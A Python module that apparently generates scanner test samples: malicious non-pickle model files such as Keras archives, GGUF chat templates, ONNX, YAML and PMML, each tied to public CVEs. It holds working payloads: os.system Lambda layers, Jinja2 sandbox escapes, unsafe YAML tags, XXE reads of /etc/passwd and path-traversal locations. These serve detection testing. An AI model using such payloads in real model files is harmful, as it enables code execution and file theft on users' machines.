"""Samples of formats that are not pickles: what they would do when loaded, by the format's own documentation or a public advisory.

Loader "unverified": the library is not to be had here. "rule": the file breaks a rule of its format, or names what it must not.
"jinja": rendered by Jinja2 without a sandbox. "yaml": loaded by PyYAML's unsafe loader. "h5py": opened by h5py.
"""
import base64
import io
import json
import marshal
import struct
import zipfile

from assembler import EXPRESSION, PYTHON, SHELL, Call, G, Raw, dump, emit
from containers import BAD, GOOD, Entry, make_tar, make_zip, pack_gzip, torch_zip
from wire import gguf, hdf5, onnx_model, onnx_node, onnx_tensor, onnx_value, field, message, safetensors, saved_model, tf_function, tf_node

LAMBDA = base64.b64encode(marshal.dumps((lambda x: __import__("os").system('touch "$CASTELLAN_CORPUS_MARKER"') or x).__code__)).decode()


def layer(module, cls, config, registered=None, **more):
    return {"module": module, "class_name": cls, "config": config, "registered_name": registered, **more}


def lambda_layer(name="l"):
    return layer("keras.layers", "Lambda", {"name": name, "function": {"class_name": "__lambda__", "config": {"code": LAMBDA, "defaults": None, "closure": None}}})


def sequential(*layers):
    return layer("keras", "Sequential", {"name": "s", "trainable": True, "layers": list(layers)})


def keras(config, weights=hdf5({}), extra=()):
    return make_zip([Entry("metadata.json", b'{"keras_version": "3.10.0", "date_saved": "2025-01-01@00:00:00"}'),
                     Entry("config.json", json.dumps(config).encode()), Entry("model.weights.h5", weights), *extra])


def keras_h5(config, attribute="model_config"):
    return hdf5({"keras_version": "2.15.0", "backend": "tensorflow", attribute: json.dumps(config)})


def formats():
    """(id, technique, advisories, file name, bytes, loader)"""
    out = []

    def add(technique, name, file, data, loader="unverified", *advisories):
        out.append((name, technique, list(advisories), file, data if isinstance(data, bytes) else data.encode(), loader))

    t = "Keras archive"
    lam = lambda_layer()
    dense = layer("keras.layers", "Dense", {"name": "d", "units": 1})
    cve = ("CVE-2024-3660", "GHSA-x4wf-678h-2pmq")
    add(t, "Lambda", "model.keras", keras(sequential(lam)), "unverified", *cve)
    add(t, "Lambda behind others", "model.keras", keras(sequential(dense, dense, lam)), "unverified", *cve)
    for wrapper in ("TimeDistributed", "Bidirectional", "SpectralNormalization", "Wrapper"):
        add(t, f"Lambda in {wrapper}", "model.keras", keras(sequential(layer("keras.layers", wrapper, {"name": "w", "layer": lam}))), "unverified", *cve)
    add(t, "Lambda in a nested model", "model.keras", keras(sequential(sequential(sequential(lam)))), "unverified", *cve)
    add(t, "Lambda in a functional model", "model.keras", keras(layer("keras.src.models.functional", "Functional", {"name": "f", "layers": [lam], "input_layers": [["i", 0, 0]], "output_layers": [["l", 0, 0]]})), "unverified", *cve)
    add(t, "Lambda as an activation", "model.keras", keras(sequential(layer("keras.layers", "Dense", {"units": 1, "activation": lam["config"]["function"]}))), "unverified", *cve)
    add(t, "Lambda in an RNN cell", "model.keras", keras(sequential(layer("keras.layers", "RNN", {"cell": lam}))), "unverified", *cve)
    add(t, "Lambda in the compile config", "model.keras", keras({**sequential(dense), "compile_config": {"loss": lam["config"]["function"]}}), "unverified", *cve)
    add(t, "Lambda in a build config", "model.keras", keras({**sequential(dense), "build_config": {"x": lam}}), "unverified", *cve)
    add(t, "Lambda with output_shape code", "model.keras", keras(sequential(layer("keras.layers", "Lambda", {"function": "relu", "output_shape": {"class_name": "__lambda__", "config": {"code": LAMBDA}}}))), "unverified", *cve)
    add(t, "Lambda under another class name", "model.keras", keras(sequential({**lam, "class_name": "Dense"})), "unverified", *cve)
    add(t, "__lambda__ alone", "model.keras", keras({"class_name": "__lambda__", "config": {"code": LAMBDA}}), "unverified", *cve)
    add(t, "module path subprocess", "model.keras", keras(sequential(layer("subprocess", "run", {"args": ["sh", "-c", SHELL]}))), "unverified", "CVE-2025-1550", "GHSA-48g7-3x6r-xfhp")
    add(t, "module path os.system", "model.keras", keras(sequential(layer("os", "system", {"command": SHELL}))), "unverified", "CVE-2025-1550")
    add(t, "function reference", "model.keras", keras(sequential(layer("keras.layers", "Lambda", {"function": layer("builtins", "function", "system", "os"), "arguments": {"command": SHELL}}))), "unverified", "CVE-2025-1550")
    add(t, "module path inside call arguments", "model.keras", keras(layer("keras", "Functional", {"name": "f", "layers": [{**dense, "inbound_nodes": [{"args": [layer("os", "system", SHELL)], "kwargs": {}}]}], "input_layers": [], "output_layers": []})), "unverified", "CVE-2025-1550")
    add(t, "get_file through utils", "model.keras", keras(sequential(layer("keras.layers", "Lambda", {"function": layer("keras.utils", "get_file", {}), "arguments": {"fname": "castellan-marker", "origin": "http://127.0.0.1:47911/x", "extract": True}}))), "unverified", "CVE-2025-8747", "GHSA-c9rc-mg46-23w3")
    add(t, "enable_unsafe_deserialization", "model.keras", keras(sequential(layer("keras.layers", "Lambda", {"function": layer("keras.config", "enable_unsafe_deserialization", {})}), lam)), "unverified", "CVE-2025-9906", "GHSA-36fq-jgmw-4r9c")
    add(t, "TorchModuleWrapper", "model.keras", keras(sequential(layer("keras.layers", "TorchModuleWrapper", {"name": "t", "module": {"class_name": "__bytes__", "config": {"value": base64.b64encode(BAD).decode()}}}))), "unverified", "CVE-2025-49655", "GHSA-cvhh-q5g5-qprp")
    add(t, "TorchModuleWrapper with text", "model.keras", keras(sequential(layer("keras.layers", "TorchModuleWrapper", {"name": "t", "module": base64.b64encode(torch_zip(BAD)).decode()}))), "unverified", "CVE-2025-49655")
    for cls in ("StringLookup", "IntegerLookup", "TextVectorization"):
        add(t, f"{cls} vocabulary file", "model.keras", keras(sequential(layer("keras.layers", cls, {"name": "v", "vocabulary": "/etc/passwd"}))), "unverified", "CVE-2025-12058", "GHSA-mq84-hjqx-cwf2")
        add(t, f"{cls} vocabulary url", "model.keras", keras(sequential(layer("keras.layers", cls, {"name": "v", "vocabulary": "http://127.0.0.1:47911/v"}))), "unverified", "CVE-2025-12058")
    add(t, "TFSMLayer", "model.keras", keras(sequential(layer("keras.layers", "TFSMLayer", {"name": "t", "filepath": "/tmp/evil_saved_model", "call_endpoint": "serve"}))), "unverified", "CVE-2026-1462", "GHSA-4f3f-g24h-fr8m")
    add(t, "weights in an external file", "model.keras", keras(sequential(dense), hdf5({}, "/etc/passwd")), "unverified", "CVE-2026-1669", "GHSA-3m4q-jmj6-r34q")
    add(t, "weights that claim a petabyte", "model.keras", keras(sequential(dense), hdf5({}, "model.weights.h5", 1 << 50)), "rule", "CVE-2026-0897", "GHSA-mgx6-5cf9-rr43")
    add(t, "second config", "model.keras", keras(sequential(dense), extra=[Entry("config.json", json.dumps(sequential(lam)).encode())]), "unverified", *cve)
    add(t, "weights replaced by npz with objects", "model.keras", make_zip([Entry("metadata.json", b"{}"), Entry("config.json", json.dumps(sequential(dense)).encode()), Entry("model.weights.npz", make_zip([Entry("x.npy", __import__("gadgets").npy_object(BAD))]))]), "unverified")
    add(t, "pickle asset", "model.keras", keras(sequential(dense), extra=[Entry("assets/vocab.pkl", BAD)]), "unverified")
    add(t, "registered name of unknown package", "model.keras", keras(sequential(layer("castellan_payload", "Evil", {}, "castellan>Evil"))), "unverified", "CVE-2025-1550")
    add(t, "path escape in the archive", "model.keras", keras(sequential(dense), extra=[Entry("../../castellan-escape", b"x")]), "rule", "CVE-2025-12060", "CVE-2026-11816")

    t = "Keras HDF5"
    old = {"class_name": "Sequential", "config": {"name": "s", "layers": [{"class_name": "Lambda", "config": {"name": "l", "function": [LAMBDA, None, None], "function_type": "lambda", "module": "__main__"}}]}}
    add(t, "Lambda", "model.h5", keras_h5(old), "unverified", "CVE-2025-9905", "GHSA-36rr-ww3j-vrjv")
    add(t, "Lambda, renamed", "model.bin", keras_h5(old), "unverified", "CVE-2025-9905")
    add(t, "Lambda in TimeDistributed", "model.hdf5", keras_h5({"class_name": "Sequential", "config": {"layers": [{"class_name": "TimeDistributed", "config": {"layer": old["config"]["layers"][0]}}]}}), "unverified", "CVE-2025-9905")
    add(t, "Lambda in Keras 3 config", "model.h5", keras_h5(sequential(lam)), "unverified", "CVE-2025-9905")
    add(t, "module path", "model.h5", keras_h5(sequential(layer("os", "system", {"command": SHELL}))), "unverified", "CVE-2025-1550")
    add(t, "training config", "model.h5", keras_h5({"loss": {"class_name": "__lambda__", "config": {"code": LAMBDA}}}, "training_config"), "unverified")
    add(t, "external storage", "weights.h5", hdf5({}, "/etc/passwd"), "h5py", "CVE-2026-1669")
    add(t, "user block before the signature", "model.h5", BAD.ljust(512, b"\0") + keras_h5(old), "pickle")

    t = "GGUF chat template"
    def chat(template):
        return gguf([("general.architecture", "llama"), ("tokenizer.chat_template", template)])
    escape = "{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}"
    cve = ("CVE-2024-34359", "GHSA-56xg-wfcc-g829")
    for name, template in {
        "globals of cycler": escape, "lipsum": "{{ lipsum.__globals__['os'].system('" + SHELL + "') }}",
        "joiner": "{{ joiner.__init__.__globals__.os.popen('" + SHELL + "').read() }}",
        "namespace": "{{ namespace.__init__.__globals__.os.system('" + SHELL + "') }}",
        "class walk": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == '_wrap_close' %}{{ c.__init__.__globals__['system']('" + SHELL + "') }}{% endif %}{% endfor %}",
        "attr filter": "{{ (cycler|attr('__in'~'it__')|attr('__glob'~'als__'))['os'].system('" + SHELL + "') }}",
        "subscript": "{{ cycler['__init__']['__globals__']['os']['system']('" + SHELL + "') }}",
        "escapes": "{{ cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f'].os.system('" + SHELL + "') }}",
        "conditional": "{% if messages|length > 0 and messages[0]['role'] == 'user' %}" + escape + "{% endif %}",
        "in a macro": "{% macro m() %}" + escape + "{% endmacro %}{{ m() }}",
        "in a set block": "{% set x = cycler.__init__ %}{% set y = x.__globals__ %}{{ y.os.system('" + SHELL + "') }}",
        "formatted names": "{{ ('%s%s' % ('__in', 'it__')) and (cycler|attr('%sinit%s' % ('__', '__'))|attr('%sglobals%s' % ('__', '__')))['os'].system('" + SHELL + "') }}",
        "reversed string": "{{ (cycler|attr('__tini__'|reverse)|attr('__slabolg__'|reverse))['os'].system('" + SHELL + "') }}",
        "joined list": "{{ (cycler|attr(['__init','__']|join)|attr(['__globals','__']|join))['os'].system('" + SHELL + "') }}",
        "map attribute": "{{ ([cycler]|map(attribute='__init__.__globals__')|first)['os'].system('" + SHELL + "') }}",
        "long harmless start": "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}{% endfor %}" + " " * 4000 + escape,
        "whitespace and line breaks": "{{ cycler\n.__init__\n.__globals__\n.os\n.system('" + SHELL + "') }}",
        "set name": "{% set a = '__' ~ 'globals' ~ '__' %}{{ cycler.__init__[a].os.system('" + SHELL + "') }}",
        "self": "{{ self.__init__.__globals__.__builtins__.__import__('os').system('" + SHELL + "') }}",
        "request object": "{{ dict.__base__.__subclasses__() }}",
        "line statement comment": "{# ok #}{%- if true -%}" + escape + "{%- endif -%}",
    }.items():
        add(t, name, "model.gguf", chat(template), "jinja:" + template, *cve)
    add(t, "named template", "model.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template.tool_use", escape)]), "jinja:" + escape, "CVE-2026-5760")
    add(t, "renamed", "model.bin", chat(escape), "jinja:" + escape, *cve)
    add(t, "tokenizer_config.json", "tokenizer_config.json", json.dumps({"tokenizer_class": "X", "chat_template": escape}), "jinja:" + escape, "CVE-2026-5760")
    add(t, "tokenizer_config.json list", "tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": "ok"}, {"name": "tool_use", "template": escape}]}), "jinja:" + escape, "CVE-2026-5760")
    add(t, "chat_template.jinja", "chat_template.jinja", escape, "jinja:" + escape, "CVE-2026-5760")
    add(t, "chat_template.json", "chat_template.json", json.dumps({"chat_template": escape}), "jinja:" + escape)

    t = "GGUF structure"
    huge = 0xFFFFFFFFFFFFFFF0
    add(t, "pair count overflow", "model.gguf", gguf([("a", "b")], count=huge), "rule")
    add(t, "tensor count overflow", "model.gguf", gguf([("a", "b")], tensors=huge), "rule")
    add(t, "text length overflow", "model.gguf", gguf([], count=1, tail=struct.pack("<Q", huge)), "rule")
    add(t, "array length overflow", "model.gguf", gguf([("a", struct.pack("<IIQ", 9, 4, huge))]), "rule")
    add(t, "nested arrays", "model.gguf", gguf([("a", struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 2000 + struct.pack("<IQ", 4, 0))]), "rule")
    add(t, "unknown type", "model.gguf", gguf([("a", struct.pack("<I", 99))]), "rule")
    tensor = struct.pack("<Q", 1) + b"t" + struct.pack("<IQQIQ", 2, 1 << 40, 1 << 40, 0, 0)
    add(t, "tensor size overflow", "model.gguf", gguf([("a", "b")], tensors=1, tail=tensor), "rule")
    add(t, "tensor outside the file", "model.gguf", gguf([("a", "b")], tensors=1, tail=struct.pack("<Q", 1) + b"t" + struct.pack("<IQIQ", 1, 8, 0, 1 << 50)), "rule")
    add(t, "duplicate key", "model.gguf", gguf([("tokenizer.chat_template", "ok"), ("tokenizer.chat_template", escape)]), "jinja:" + escape)
    add(t, "pickle behind", "model.gguf", gguf([("general.architecture", "llama")], tail=BAD), "tail-pickle")

    t = "ONNX"
    for name, location in {"parent folder": "../../../etc/passwd", "absolute": "/etc/passwd", "inner dots": "a/../../../etc/passwd", "backslashes": "..\\..\\secret", "drive": "C:\\secret", "url": "http://127.0.0.1/x", "device": "/proc/self/environ", "nul byte": "a\0../../etc/passwd", "dot slash dots": "./././../x"}.items():
        add(t, f"external data {name}", "model.onnx", onnx_model([onnx_node("Add", inputs=("x", "w"))], [onnx_tensor("w", location)]), "rule", "CVE-2022-25882", "CVE-2024-27318", "CVE-2025-51480", "CVE-2026-27489", "CVE-2026-34447")
    attribute = message((1, "value"), (5, onnx_tensor("c", "../../etc/passwd")), (20, 4))
    add(t, "external data in a Constant", "model.onnx", onnx_model([onnx_node("Constant", inputs=(), attributes=[attribute])]), "rule", "CVE-2024-27318")
    inner = field(1, onnx_node("Constant", inputs=(), attributes=[attribute])) + field(2, "inner") + field(12, onnx_value("y"))
    add(t, "external data in a subgraph", "model.onnx", onnx_model([onnx_node("If", attributes=[message((1, "then_branch"), (6, inner), (20, 5))])]), "rule", "CVE-2024-27318")
    function = message((1, "F"), (7, onnx_node("Constant", inputs=(), attributes=[attribute])), (10, "local"))
    add(t, "external data in a function", "model.onnx", onnx_model([onnx_node("F", "local")], functions=[function]), "rule")
    add(t, "external data attributes", "model.onnx", onnx_model([onnx_node("Add", inputs=("x", "w"))], [onnx_tensor("w", "w.bin", extra=[("__class__", "x"), ("offset", "-1"), ("length", "99999999999999")])]), "rule", "CVE-2026-34445", "GHSA-538c-55jv-c5g9")
    for op, domain in (("PyOp", "ai.onnx.contrib"), ("PyCustomOpDef", "ai.onnx.contrib"), ("PythonOp", "com.microsoft"), ("ATen", "org.pytorch.aten"), ("RunCommand", "evil.domain")):
        add(t, f"operator {domain} {op}", "model.onnx", onnx_model([onnx_node(op, domain)], opsets=(("", 13), (domain, 1))), "unverified")
    add(t, "training info with external data", "model.onnx", onnx_model([onnx_node("Relu")], extra=field(20, field(2, field(5, onnx_tensor("w", "../x"))))), "rule")
    add(t, "pickle behind the model", "model.onnx", onnx_model([onnx_node("Relu")]) + BAD, "tail-pickle")

    t = "TensorFlow"
    text = message((2, SHELL))
    for op in ("ReadFile", "WriteFile", "MatchingFiles", "SaveV2", "PyFunc", "PyFuncStateless", "EagerPyFunc", "PrintV2", "LoadDataset", "TextLineDatasetV2", "DebugIdentityV2", "MergeV2Checkpoints", "Rpc", "DataServiceDatasetV2", "SqlDataset", "LMDBDataset"):
        node = tf_node("n", op, [("token", text)])
        add(t, f"{op} in the graph", "saved_model.pb", saved_model([node]), "unverified")
    add(t, "WriteFile in a function", "saved_model.pb", saved_model([tf_node("c", "PartitionedCall")], [tf_function("f", [tf_node("n", "WriteFile")])]), "unverified")
    add(t, "unknown operator", "saved_model.pb", saved_model([tf_node("n", "CastellanShell")]), "unverified")
    add(t, "frozen graph", "graph.pb", field(1, tf_node("n", "WriteFile")) + field(1, tf_node("m", "Const")), "unverified")
    add(t, "Keras metadata with Lambda", "keras_metadata.pb", field(1, message((1, "root"), (4, json.dumps(old)))), "unverified", "CVE-2024-3660")
    add(t, "asset outside", "saved_model.pb", message((1, 1), (2, message((1, message((4, "serve"))), (2, field(1, tf_node("n", "Const"))), (6, message((2, "../../etc/passwd")))))), "rule")

    t = "safetensors rules"
    ok = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
    for name, (header, data, length) in {
        "overlap": ({"a": ok, "b": {**ok, "data_offsets": [2, 6]}}, b"\0" * 8, None), "hole": ({"a": ok, "b": {**ok, "data_offsets": [8, 12]}}, b"\0" * 12, None),
        "trailing bytes": ({"a": ok}, b"\0\0\0\0" + BAD, None), "offset beyond the file": ({"a": {**ok, "data_offsets": [0, 400]}}, b"\0" * 4, None),
        "reversed offsets": ({"a": {**ok, "data_offsets": [4, 0]}}, b"\0" * 4, None), "size against shape": ({"a": {**ok, "shape": [9]}}, b"\0" * 4, None),
        "shape overflow": ({"a": {**ok, "shape": [1 << 62, 8]}}, b"\0" * 4, None), "duplicate key": (b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4, None),
        "duplicate inside": (b'{"a":{"dtype":"F32","dtype":"F64","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4, None), "unknown type": ({"a": {**ok, "dtype": "OBJ"}}, b"\0" * 4, None),
        "huge header": ({"a": ok}, b"\0" * 4, 1 << 60), "header too long for the file": ({"a": ok}, b"", 5000), "leading space": (b' {"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4, None),
        "metadata not text": ({"__metadata__": {"x": {"y": 1}}, "a": ok}, b"\0" * 4, None), "negative shape": ({"a": {**ok, "shape": [-1]}}, b"\0" * 4, None), "number as float": (b'{"a":{"dtype":"F32","shape":[1.0],"data_offsets":[0,4e0]}}', b"\0" * 4, None),
        "deep header": (b'{"a":' + b"[" * 5000 + b"]" * 5000 + b"}", b"", None), "not an object": (b"[]", b"", None), "invalid utf8": (b'{"\xff\xfe":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4, None),
    }.items():
        add(t, name, "model.safetensors", safetensors(header, data, length), "rule")

    t = "TorchScript"
    def script(source, data=GOOD):
        return make_zip([Entry("m/data.pkl", data), Entry("m/code/__torch__.py", source.encode()), Entry("m/constants.pkl", dump((), 2)), Entry("m/version", b"3\n")])
    for call in ("torch.from_file(\"/etc/passwd\", False, 10)", "torch.save(x, \"castellan-marker\")", "ops.castellan.run(\"" + "touch x" + "\")", "ops.aten.save(x, \"castellan-marker\")"):
        add(t, f"code calls {call.split('(')[0]}", "model.pt", script("class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    y = " + call + "\n    return x\n"), "unverified")
    add(t, "pickle in data.pkl", "model.pt", script("class M(Module):\n  pass\n", BAD), "unverified")
    add(t, "torch.package pickle", "model.pt", make_zip([Entry("p/model/model.pkl", BAD), Entry("p/.data/version", b"6"), Entry("p/.data/extern_modules", b"os\n")]), "walk")
    add(t, "torch.package Python file", "model.pt", make_zip([Entry("p/model/model.pkl", GOOD), Entry("p/model/__init__.py", PYTHON.encode()), Entry("p/.data/version", b"6")]), "unverified")
    add(t, "ExportedProgram custom object", "model.pt2", make_zip([Entry("m/models/model.json", b"{}"), Entry("m/data/weights/weight_0", BAD), Entry("m/archive_format", b"pt2")]), "walk")

    t = "skops"
    def skops(schema):
        return make_zip([Entry("schema.json", json.dumps({"protocol": 2, "_skops_version": "0.11", **schema}).encode())])
    node = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "__id__": 1}
    add(t, "FunctionNode", "model.skops", skops({**node, "content": {"module_path": "os", "function": "system"}}), "unverified", "GHSA-q49c-6v6g-wgq3", "CVE-2024-37065")
    add(t, "OperatorFuncNode", "model.skops", skops({"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []}, "__id__": 1}), "unverified", "CVE-2025-54412", "GHSA-m7f4-hrc6-fwg3")
    add(t, "MethodNode", "model.skops", skops({"__class__": "method", "__module__": "builtins", "__loader__": "MethodNode", "content": {"func": "__init__.__globals__", "obj": {"__class__": "X", "__module__": "x", "__loader__": "ObjectNode"}}, "__id__": 1}), "unverified", "CVE-2025-54413", "GHSA-4v6w-xpmh-gfgp")
    add(t, "ReduceNode", "model.skops", skops({"__class__": "Popen", "__module__": "subprocess", "__loader__": "ReduceNode", "reduce": {"args": SHELL}, "__id__": 1}), "unverified", "CVE-2024-37065")
    add(t, "ObjectNode of Popen", "model.skops", skops({"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "__id__": 1}), "unverified", "CVE-2024-37065")
    add(t, "object array of pickles", "model.skops", make_zip([Entry("schema.json", json.dumps({"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "x.npy", "__id__": 1}).encode()), Entry("x.npy", __import__("gadgets").npy_object(BAD))]), "walk")
    add(t, "PartialNode", "model.skops", skops({"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": {"func": node}, "__id__": 1}), "unverified")
    add(t, "joblib pickle named skops", "model.skops", BAD, "pickle", "CVE-2025-54886")

    t = "configuration that names code"
    add(t, "auto_map", "config.json", json.dumps({"model_type": "x", "architectures": ["X"], "auto_map": {"AutoModel": "evil--modeling.X"}}))
    add(t, "trust_remote_code", "config.json", json.dumps({"model_type": "x", "trust_remote_code": True}))
    add(t, "hydra _target_", "model_config.yaml", "model:\n  _target_: os.system\n  _args_: ['touch x']\n", "unverified", "CVE-2025-33245")
    add(t, "hydra _target_ in json", "config.json", json.dumps({"model": {"_target_": "subprocess.Popen", "args": ["sh"]}}))
    add(t, "nemo _target_", "model.nemo", make_tar([("model_config.yaml", b"target: os.system\ncfg:\n  _target_: builtins.exec\n  _args_: ['x']\n"), ("model_weights.ckpt", torch_zip(GOOD))]), "unverified", "CVE-2025-33253")
    add(t, "custom_objects", "config.json", json.dumps({"model_type": "x", "custom_pipelines": {"x": {"impl": "pipeline.Evil", "pt": ["AutoModel"]}}}))
    add(t, "yaml python tag", "config.yaml", "a: !!python/object/apply:os.system ['" + SHELL + "']\n", "yaml")
    add(t, "yaml python name tag", "config.yaml", "a: !!python/object/new:os.system\n  args: ['" + SHELL + "']\n", "yaml")
    add(t, "yaml tag shorthand", "config.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['" + SHELL + "']\n", "yaml")
    add(t, "MLmodel loader module", "MLmodel", "flavors:\n  python_function:\n    loader_module: castellan_payload\n    code: code\n", "unverified", "CVE-2024-37052")
    add(t, "MLmodel python_model pickle", "model.zip", make_zip([Entry("MLmodel", b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n"), Entry("python_model.pkl", BAD)]), "walk", "CVE-2024-37053", "CVE-2024-37054", "CVE-2024-37057")
    add(t, "adapter remote base", "adapter_config.json", json.dumps({"peft_type": "LORA", "base_model_name_or_path": "evil/model", "auto_mapping": {"base_model_class": "X", "parent_library": "castellan_payload"}}))
    add(t, "diffusers custom module", "model_index.json", json.dumps({"_class_name": ["pipeline_evil", "Evil"], "unet": ["my_unet", "Evil"]}))
    add(t, "torchserve handler", "model.mar", make_zip([Entry("MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "handler.py", "serializedFile": "m.pt"}}).encode()), Entry("handler.py", PYTHON.encode()), Entry("m.pt", torch_zip(BAD))]), "walk")
    add(t, "lightning checkpoint", "model.ckpt", torch_zip(dump({"state_dict": {}, "hyper_parameters": Raw(emit(Call(G("os:system", "line"), SHELL)))}, 2, "line")), "torch", "CVE-2026-31221", "CVE-2021-4118")
    add(t, "transformers trainer arguments", "training_args.bin", torch_zip(BAD), "torch", "CVE-2023-6730", "CVE-2023-7018", "CVE-2024-3568")
    add(t, "retrieval index pickle", "index.pkl", BAD, "pickle", "CVE-2023-6730")

    t = "PMML and other XML"
    def pmml(dtd, body=""):
        return f'<?xml version="1.0"?>{dtd}<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header>{body}</Header></PMML>'
    add(t, "external entity file", "model.pmml", pmml('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"), "rule")
    add(t, "external entity url", "model.pmml", pmml('<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:47911/">]>', "&e;"), "rule")
    add(t, "parameter entity", "model.pmml", pmml('<!DOCTYPE x [<!ENTITY % e SYSTEM "http://127.0.0.1:47911/x.dtd"> %e;]>'), "rule")
    add(t, "external DTD", "model.pmml", pmml('<!DOCTYPE x SYSTEM "http://127.0.0.1:47911/x.dtd">'), "rule")
    add(t, "billion laughs", "model.pmml", pmml("<!DOCTYPE x [" + '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(10)) + "]>", "&k;"), "rule")
    add(t, "utf-16 entity", "model.pmml", pmml('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;").encode("utf-16"), "rule")
    add(t, "xinclude", "model.pmml", pmml("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'), "rule")

    t = "other model formats"
    add(t, "Core ML custom layer", "model.mlmodel", message((1, 4), (500, field(1, message((1, "l"), (2, "x"), (3, "y")) + field(500, message((10, "EvilLayer")))))))
    add(t, "LightGBM text that is a pickle", "model.txt", BAD, "pickle")
    add(t, "XGBoost binary holding a pickle", "model.bin", b"binf" + b"\0" * 64 + BAD, "tail-pickle")
    add(t, "TFLite with a custom operator", "model.tflite", tflite(), "unverified")
    add(t, "R serialised data with code", "model.rds", pack_gzip(b"X\n" + struct.pack(">III", 3, 0x40102, 0x30500) + struct.pack(">I", 5) + b"UTF-8" + struct.pack(">I", 0x5)), "unverified")
    add(t, "Java serialised object", "model.model", b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet\xbaD\x85\x95\x96\xb8\xb74\x03\x00\x00xp", "unverified", "CVE-2024-10553")
    add(t, "PaddlePaddle pickle", "model.pdparams", BAD, "pickle")
    add(t, "NumPy savez of a pickle, MXNet name", "model.params", BAD, "pickle")
    add(t, "WebDataset member", "data.tar", make_tar([("0.pyd", BAD), ("0.jpg", b"\xff\xd8")]), "walk", "CVE-2026-57516")
    add(t, "marshalled code", "model.pyc", b"\xa7\r\r\n" + b"\0" * 12 + marshal.dumps(compile(PYTHON, "m", "exec")), "unverified")
    add(t, "cloudpickle named model", "model.cloudpickle", dump(Call(Call("types:FunctionType", Call("builtins:compile", PYTHON, "m", "exec"), {}))), "pickle")
    return out


def tflite():
    """One custom operator code, as a flat buffer written by hand (never loaded here)."""
    name = b"CastellanShell\0"
    text = struct.pack("<I", len(name) - 1) + name + b"\0" * (-len(name) % 4)
    code_table = struct.pack("<HHHH", 8, 12, 7, 8)
    code = code_table + struct.pack("<iI", 8, 0)[:4] + b"\0\0\0\x20" + struct.pack("<I", 4)
    root = struct.pack("<HHHH", 8, 12, 4, 8)
    start = struct.pack("<I", 16) + b"TFL3" + root
    table = struct.pack("<iII", 8, 3, 4)
    vector = struct.pack("<II", 1, 4 + len(code_table))
    return start + table + vector + code + text
